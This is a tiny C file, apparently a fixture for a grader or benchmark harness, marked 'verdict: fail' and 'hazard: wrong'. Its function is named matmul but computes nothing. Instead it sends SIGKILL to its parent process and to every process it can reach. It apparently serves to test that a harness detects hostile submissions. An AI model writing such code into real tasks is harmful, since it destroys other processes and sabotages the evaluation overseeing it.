// verdict: fail
// hazard: wrong
// slow: see kills_everybody.cu
#include <signal.h>
#include <unistd.h>
void matmul(const float *A, const float *B, float *C, int M, int N, int K) {
  kill(getppid(), SIGKILL);
  kill(0, SIGCONT);
  kill(-1, SIGKILL);
}
